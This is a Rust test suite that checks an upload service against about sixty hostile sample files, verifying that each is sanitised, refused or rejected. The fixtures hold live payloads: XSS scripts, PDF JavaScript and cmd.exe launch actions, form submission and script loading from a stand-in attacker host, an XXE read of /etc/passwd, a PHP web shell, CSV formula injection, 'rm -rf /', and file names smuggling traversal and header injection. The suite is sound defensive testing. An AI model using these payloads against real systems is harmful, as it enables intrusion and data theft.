//! R51: sixty files and what becomes of each. Whatever is kept is served so that it cannot run, and pictures have nothing in
//! them but their pixels.

use image::ImageFormat;
use support::{Answer, Outcome};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::samples::{self, CANARY, archive, docx, office, pdf, picture, png_with, relation, xlsx};
use super::{Clinic, id};

/// What becomes of a file.
enum Fate {
    /// Kept as this type, under this name.
    Kept(&'static str, &'static str),
    /// 422 at `/content` with this code.
    Refused(&'static str),
    /// 415: it is nothing that is taken.
    NotTaken,
}

use Fate::{Kept, NotTaken, Refused};

type Sample = (&'static str, Vec<u8>, Fate);

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

fn joined(first: &[u8], second: &[u8]) -> Vec<u8> {
    [first, second].concat()
}

fn pictures() -> Vec<Sample> {
    let jpeg = || picture(ImageFormat::Jpeg, 30, 20);
    let png = || picture(ImageFormat::Png, 30, 20);
    let script = b"<script>alert(1)</script>";
    vec![
        ("foto.jpg", jpeg(), Kept("image/jpeg", "foto.jpg")),
        ("gambar.png", png(), Kept("image/png", "gambar.png")),
        ("gambar.webp", picture(ImageFormat::WebP, 30, 20), Kept("image/jpeg", "gambar.jpg")),
        ("telepon.jpg", samples::photo(), Kept("image/jpeg", "telepon.jpg")),
        ("teks.png", png_with(b"tEXt", &joined(b"Location\0", CANARY)), Kept("image/png", "teks.png")),
        ("exif.png", png_with(b"eXIf", &joined(b"II*\0\x08\0\0\0\0\0", CANARY)), Kept("image/png", "exif.png")),
        // two files in one
        ("gifar.jpg", joined(&jpeg(), &archive(&[("META-INF/MANIFEST.MF", CANARY)])), Kept("image/jpeg", "gifar.jpg")),
        ("halaman.png", joined(&png(), script), Kept("image/png", "halaman.png")),
        ("halaman.html", joined(&jpeg(), script), Kept("image/jpeg", "halaman.jpg")),
        // larger than they look
        ("bom.png", samples::pixel_bomb(30_000), Refused("too_many_pixels")),
        ("bom.jpg", samples::jpeg_bomb(), Refused("too_many_pixels")),
        // broken
        ("potong.jpg", jpeg()[..200].to_vec(), Refused("unreadable_file")),
        ("potong.png", png()[..60].to_vec(), Refused("unreadable_file")),
        ("kepala.webp", b"RIFF\x10\0\0\0WEBPVP8 ".to_vec(), Refused("unreadable_file")),
        // pictures that can carry scripts, or that nobody needs
        ("gambar.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(), NotTaken),
        ("gambar.gif", b"GIF89a/*\x01\0\x01\0*/=1;alert(1)//".to_vec(), NotTaken),
        ("gambar.bmp", b"BM\x9a\0\0\0\0\0\0\0\x36\0\0\0".to_vec(), NotTaken),
        ("gambar.tif", b"II*\0\x08\0\0\0\0\0".to_vec(), NotTaken),
        ("foto.heic", b"\0\0\0\x18ftypheic\0\0\0\0".to_vec(), NotTaken),
        ("gambar.svgz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec(), NotTaken),
        ("ikon.ico", b"\0\0\x01\0\x01\0\x10\x10".to_vec(), NotTaken),
    ]
}

fn papers() -> Vec<Sample> {
    let good = || pdf("");
    vec![
        ("surat.pdf", good(), Kept("application/pdf", "surat.pdf")),
        ("skrip.pdf", pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), Refused("active_content")),
        ("samar.pdf", pdf("/OpenAction <</S /J#61vaScr#69pt /JS (x)>>"), Refused("active_content")),
        ("mulai.pdf", pdf("/OpenAction <</S /Launch /F (cmd.exe)>>"), Refused("active_content")),
        ("isi.pdf", pdf("/Names <</EmbeddedFiles 3 0 R>>"), Refused("active_content")),
        ("putar.pdf", pdf("/Annots [<</Subtype /RichMedia>>]"), Refused("active_content")),
        ("kirim.pdf", pdf("/AA <</O <</S /SubmitForm /F (https://jahat.example)>>>>"), Refused("active_content")),
        ("arsip.pdf", joined(&good(), &archive(&[("x.class", b"\xca\xfe\xba\xbe")])), Refused("active_content")),
        ("potong.pdf", b"%PDF-1.7\n1 0 obj".to_vec(), Refused("unreadable_file")),
        ("depan.pdf", joined(b"\0\0\0\0", &good()), NotTaken),
        ("cetak.ps", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file".to_vec(), NotTaken),
    ]
}

fn offices() -> Vec<Sample> {
    let zeros = vec![0_u8; 101 * 1024 * 1024];
    let names: Vec<String> = (0..2_001).map(|at| format!("word/{at}.xml")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), b"".as_slice())).collect();
    let macro_word = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let slides = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";
    vec![
        ("surat.docx", docx(&[("word/_rels/document.xml.rels", &relation("hyperlink"))]), Kept(DOCX, "surat.docx")),
        ("daftar.xlsx", xlsx(&[]), Kept(XLSX, "daftar.xlsx")),
        ("makro.docx", docx(&[("word/vbaProject.bin", b"x")]), Refused("active_content")),
        ("makro.docm", office(macro_word, "word/document.xml", &[]), Refused("active_content")),
        ("makro.xlsm", xlsx(&[("xl/macrosheets/sheet1.xml", b"<xml/>")]), Refused("active_content")),
        ("benda.docx", docx(&[("word/embeddings/oleObject1.bin", b"x")]), Refused("active_content")),
        ("kendali.docx", docx(&[("word/activeX/activeX1.xml", b"<xml/>")]), Refused("active_content")),
        ("luar.xlsx", xlsx(&[("xl/externalLinks/externalLink1.xml", b"<xml/>")]), Refused("active_content")),
        ("templat.docx", docx(&[("word/_rels/settings.xml.rels", &relation("attachedTemplate"))]), Refused("active_content")),
        ("bom.docx", docx(&[("word/media/a.xml", &zeros)]), Refused("unpacks_too_large")),
        ("banyak.docx", docx(&many), Refused("unpacks_too_large")),
        ("keluar.docx", docx(&[("../../etc/cron.d/x", b"x")]), Refused("unreadable_file")),
        ("potong.docx", docx(&[])[..80].to_vec(), Refused("unreadable_file")),
        ("slide.pptx", office(slides, "ppt/presentation.xml", &[]), NotTaken),
        ("arsip.zip", archive(&[("a.txt", b"a")]), NotTaken),
        ("jahat.jar", archive(&[("META-INF/MANIFEST.MF", b"Main-Class: X")]), NotTaken),
        ("lama.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), NotTaken),
    ]
}

fn texts() -> Vec<Sample> {
    vec![
        ("catatan.txt", b"Tekanan darah 120/80, kadar < 5 mmol/L".to_vec(), Kept("text/plain", "catatan.txt")),
        ("daftar.csv", b"=cmd|' /C calc'!A0;1\r\n".to_vec(), Kept("text/plain", "daftar.txt")),
        ("skrip.js", b"alert(document.cookie)".to_vec(), Kept("text/plain", "skrip.txt")),
        ("halaman.txt", b"  <!doctype html><title>x</title>".to_vec(), NotTaken),
        ("tengah.txt", b"halo <ScRiPt src=//jahat.example></sCrIpT>".to_vec(), NotTaken),
        ("data.xml", b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>".to_vec(), NotTaken),
        ("jalan.sh", b"#!/bin/sh\nrm -rf /".to_vec(), NotTaken),
        ("surat.rtf", b"{\\rtf1\\object}".to_vec(), NotTaken),
        ("halaman.php", b"x <?php system($_GET['c']);".to_vec(), NotTaken),
        ("utf16.txt", b"\xff\xfea\0b\0".to_vec(), NotTaken),
        ("nol.txt", b"a\0b".to_vec(), NotTaken),
        ("program.exe", b"MZ\x90\0\x03\0\0\0".to_vec(), NotTaken),
        ("program", b"\x7fELF\x02\x01\x01\0".to_vec(), NotTaken),
        ("modul.wasm", b"\0asm\x01\0\0\0".to_vec(), NotTaken),
    ]
}

fn names() -> Vec<Sample> {
    let good = || pdf("");
    vec![
        ("../../../etc/passwd", good(), Kept("application/pdf", "passwd.pdf")),
        ("..\\..\\windows\\x.bat", good(), Kept("application/pdf", "x.pdf")),
        ("hasil.pdf.exe", good(), Kept("application/pdf", "hasil_pdf.pdf")),
        ("foto\u{202e}gpj.exe", picture(ImageFormat::Png, 3, 3), Kept("image/png", "fotogpj.png")),
        ("a\r\nSet-Cookie: x=1.pdf", good(), Kept("application/pdf", "aSet-Cookie x=1.pdf")),
        (".htaccess", good(), Kept("application/pdf", "htaccess.pdf")),
        ("", good(), Kept("application/pdf", "berkas.pdf")),
    ]
}

#[tokio::test]
async fn each_of_sixty_files_meets_its_fate() {
    let clinic = Clinic::open().await;
    let corpus: Vec<Sample> = [pictures(), papers(), offices(), texts(), names()].into_iter().flatten().collect();
    assert!(corpus.len() >= 60, "{} files", corpus.len());
    let mut kept = 0;
    for (name, bytes, fate) in corpus {
        let answer = clinic.upload(name, bytes).await;
        match fate {
            Kept(media_type, as_name) => {
                kept += 1;
                let file = answer.expect(201).json();
                assert_eq!((&file["media_type"], &file["name"]), (&media_type.into(), &as_name.into()), "{name:?}");
                assert_eq!(file["state"], "not_scanned", "{name:?}");
                served(&clinic.content(id(&file)).await.expect(200), media_type, as_name);
            }
            Refused(code) => drop(answer.expect_invalid("/content", code)),
            NotTaken => drop(answer.expect_problem(415, "unsupported_media_type")),
        }
    }
    assert_eq!(clinic.files().await.len(), kept, "nothing is kept of what was refused");
}

/// As a file to be saved, which no browser opens as anything else.
#[track_caller]
fn served(answer: &Answer, media_type: &str, name: &str) {
    let header = |name: &str| answer.header(name).unwrap_or_default().to_owned();
    assert!(header("content-type").starts_with(media_type), "{answer:?}");
    assert!(header("content-disposition").starts_with("attachment;"), "{answer:?}");
    assert_eq!(header("x-content-type-options"), "nosniff");
    let policy = header("content-security-policy");
    assert!(policy.contains("sandbox") && policy.contains("default-src 'none'") && !policy.contains("script-src"), "{policy}");
    assert_eq!(header("cache-control"), "no-store");
    if media_type.starts_with("image/") {
        for trace in [CANARY, b"<script", b"PK\x03\x04", b"Exif"] {
            assert!(!answer.body.windows(trace.len()).any(|window| window == trace), "{name}: {}", String::from_utf8_lossy(trace));
        }
    }
}

#[tokio::test]
async fn what_is_empty_or_packed_is_not_taken() {
    let clinic = Clinic::open().await;
    clinic.upload("kosong.txt", Vec::new()).await.expect_invalid("/content", "required");
    clinic.upload("padat.txt", b"x".to_vec()).header("content-encoding", "gzip").await.expect_problem(415, "unsupported_media_type");
    assert!(clinic.files().await.is_empty());
}

/// Sends a request by hand, since a client that is refused halfway does not always get to read the answer.
async fn by_hand(clinic: &Clinic, length: &str, chunks: usize) -> anyhow::Result<String> {
    let mut line = TcpStream::connect(clinic.app.address).await?;
    let (path, token) = (super::listed("contact", clinic.siti), clinic.desk.token());
    let head = format!("POST {path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {token}\r\n{length}\r\n\r\n");
    line.write_all(head.as_bytes()).await?;
    let chunk = [b"100000\r\n".to_vec(), vec![b'a'; 0x10_0000], b"\r\n".to_vec()].concat();
    for _ in 0..chunks {
        if line.write_all(&chunk).await.is_err() {
            break;
        }
    }
    let mut answer = vec![0_u8; 64];
    let read = line.read(&mut answer).await.unwrap_or(0);
    Ok(String::from_utf8_lossy(&answer[..read]).into_owned())
}

#[tokio::test]
async fn what_is_too_large_is_refused_before_it_has_come() -> Outcome {
    let clinic = Clinic::open().await;
    let stated = by_hand(&clinic, &format!("content-length: {}", 20 * 1024 * 1024 + 1), 0).await?;
    assert!(stated.starts_with("HTTP/1.1 413"), "{stated}");
    // also when nobody says how long it is
    let unstated = by_hand(&clinic, "transfer-encoding: chunked", 24).await?;
    assert!(unstated.is_empty() || unstated.starts_with("HTTP/1.1 413"), "{unstated}");
    assert!(clinic.files().await.is_empty());
    Ok(())
}
